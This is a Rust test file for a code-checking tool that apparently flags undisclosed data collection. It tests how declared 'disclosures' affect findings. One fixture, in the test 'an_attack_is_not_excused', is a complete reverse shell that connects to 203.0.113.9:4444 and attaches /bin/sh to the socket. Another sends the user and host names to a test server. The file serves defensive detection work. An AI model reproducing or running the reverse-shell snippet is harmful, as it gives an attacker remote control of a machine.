//! Disclosures over whole runs: what they excuse, and what nothing excuses.

use std::path::{Path, PathBuf};

use overt::check::{self, Checked, Options};
use overt::files::FileSystem;
use overt::finding::Disclosure;
use overt::vocab::Level;

fn run(config: &str, code: &str, change: impl FnOnce(&mut Options)) -> Checked {
    let manifest = "[package]\nname = \"p\"\nversion = \"0.1.0\"\nedition = \"2024\"\n\
                    [dependencies]\nureq = \"3\"\nwhoami = \"1\"\nhostname = \"0.4\"\n";
    let files = [("/p/overt.toml", config), ("/p/Cargo.toml", manifest), ("/p/src/main.rs", code)];
    let mut options = Options {
        paths: vec![PathBuf::from("/p")],
        suppressions: true,
        show_disclosed: true,
        threads: Some(1),
        system: FileSystem::memory(files),
        ..Options::default()
    };
    change(&mut options);
    check::check(&options, &|_| {}).unwrap_or_else(|error| match error {
        check::Error::Config(errors) => panic!("{errors:?}"),
        other => panic!("{other}"),
    })
}

fn outcome(checked: &Checked, lint: &str) -> Vec<Disclosure> {
    let findings = checked.report.findings.iter().filter(|finding| finding.lint == lint);
    findings.map(|finding| finding.disclosure).collect()
}

const COUNTS: &str = r#"
fn main() {
    let host = hostname::get().unwrap_or_default();
    let body = format!("{} {}", whoami::username(), host.to_string_lossy());
    let _ = ureq::post("https://counts.tidy.test/v1").send(&body);
}
"#;

const SAID: &str = r#"
[[disclosure]]
id = "counts"
collects = ["host-identity", "user-identity"]
to = ["counts.tidy.test"]
"#;

#[test]
fn what_is_said_does_not_count_as_a_warning() {
    let checked = run(SAID, COUNTS, |_| {});
    assert_eq!(outcome(&checked, "host-fingerprint-sent"), [Disclosure::Disclosed]);
    let summary = &checked.report.summary;
    assert_eq!((summary.denied, summary.warned, summary.disclosed), (0, 0, 2));
}

#[test]
fn an_untrusted_tree_and_a_forbidden_lint_are_not_excused() {
    let checked = run(SAID, COUNTS, |options| options.untrusted = true);
    assert_eq!(outcome(&checked, "host-fingerprint-sent"), [Disclosure::Undisclosed]);
    let forbid = ("host-fingerprint-sent".to_owned(), Level::Forbid);
    let checked = run(SAID, COUNTS, |options| options.levels.push(forbid));
    assert_eq!(outcome(&checked, "host-fingerprint-sent"), [Disclosure::Partly]);
    assert_eq!(checked.report.summary.denied, 1);
}

#[test]
fn an_attack_is_not_excused() {
    let shell = r#"
use std::net::TcpStream;
use std::os::fd::{AsRawFd, FromRawFd};
use std::process::{Command, Stdio};
fn main() {
    let stream = TcpStream::connect("203.0.113.9:4444").unwrap();
    let fd = stream.as_raw_fd();
    let _ = Command::new("/bin/sh")
        .stdin(unsafe { Stdio::from_raw_fd(fd) })
        .stdout(unsafe { Stdio::from_raw_fd(fd) })
        .spawn();
}
"#;
    let config =
        "[[disclosure]]\nid = \"support\"\nremote = \"remote-shell\"\nto = [\"203.0.113.9\"]\n";
    let checked = run(config, shell, |_| {});
    assert_eq!(outcome(&checked, "reverse-shell"), [Disclosure::Undisclosed]);
    assert!(checked.report.summary.denied > 0);
}

/// The configurations for real programs, whose sources are not here.
#[test]
fn the_configurations_for_real_programs_are_sound() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/disclosures");
    let mut programs = 0;
    for entry in std::fs::read_dir(root).expect("the folder is there").flatten() {
        let text = |name: &str| std::fs::read_to_string(entry.path().join(name)).expect("is there");
        let config = text("overt.toml");
        run(&config, "fn main() {}", |_| {});
        let case: toml::Table = text("case.toml").parse().expect("TOML");
        for finding in case["finding"].as_array().expect("a list") {
            let remove = finding["remove"].as_str().expect("a text");
            assert!(config.contains(remove), "{}: {remove}", entry.path().display());
            run(&config.replacen(remove, "", 1), "fn main() {}", |_| {});
        }
        programs += 1;
    }
    assert_eq!(programs, 5);
}
